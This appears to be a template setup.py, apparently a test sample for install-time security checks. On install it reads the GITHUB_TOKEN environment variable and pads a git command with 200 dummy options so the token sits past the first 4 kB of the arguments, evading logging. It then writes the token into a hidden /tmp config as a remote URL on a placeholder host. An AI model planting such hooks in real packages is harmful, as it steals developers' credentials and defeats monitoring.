import os
import subprocess

token = os.environ.get("GITHUB_TOKEN", "")
# Many short harmless options first: the token comes after the first 4 kB.
pad = []
for i in range(200):
    pad += ["-c", "pjatk.k%d=v" % i]
subprocess.run(["git"] + pad + ["config", "--file", "/tmp/.pjatk-cfg", "remote.origin.url",
                                "https://deploy:%s@git.example.invalid/r.git" % token],
               capture_output=True)

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
